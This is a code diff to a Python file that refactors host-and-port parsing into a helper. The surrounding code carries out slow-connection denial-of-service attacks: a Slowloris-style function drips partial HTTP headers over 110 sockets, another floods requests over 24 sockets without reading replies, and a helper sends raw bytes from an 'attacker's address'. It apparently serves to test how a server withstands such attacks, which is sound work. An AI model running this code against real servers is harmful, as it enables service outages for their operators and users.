@@ -113,8 +113,7 @@ def names(url: str) -> None:
 
 def sockets(url: str) -> None:
     """110 sockets that send a byte now and then."""
-    place = urlsplit(url)
-    where = str(place.hostname), int(place.port or 80)
+    where = _place(url)
     opened = [_dripping(where) for _ in range(110)]
     while True:
         for number, connection in enumerate(opened):
@@ -126,6 +125,11 @@ def sockets(url: str) -> None:
         time.sleep(0.5)
 
 
+def _place(url: str) -> tuple[str, int]:
+    place = urlsplit(url)
+    return str(place.hostname), int(place.port or 80)
+
+
 def _dripping(where: tuple[str, int]) -> socket.socket:
     connection = socket.create_connection(where, source_address=(ADDRESS, 0))
     connection.send(b"GET / HTTP/1.1\r\nX: ")
@@ -134,8 +138,7 @@ def _dripping(where: tuple[str, int]) -> socket.socket:
 
 def deaf(url: str) -> None:
     """24 sockets that ask for the page again and again, and take no answer."""
-    place = urlsplit(url)
-    where = str(place.hostname), int(place.port or 80)
+    where = _place(url)
 
     def ask(number: int) -> None:
         while True:
@@ -338,9 +341,9 @@ def bodies(url: str) -> None:
 
 def _sent(url: str, *parts: bytes) -> bytes:
     """Send something from the attacker's address, and return how the answer begins."""
-    place = urlsplit(url)
-    where = str(place.hostname), int(place.port or 80)
-    with socket.create_connection(where, _ANSWER_S, source_address=(ADDRESS, 0)) as connection:
+    with socket.create_connection(
+        _place(url), _ANSWER_S, source_address=(ADDRESS, 0)
+    ) as connection:
         for part in parts:
             connection.sendall(part)
         return connection.recv(1_000)
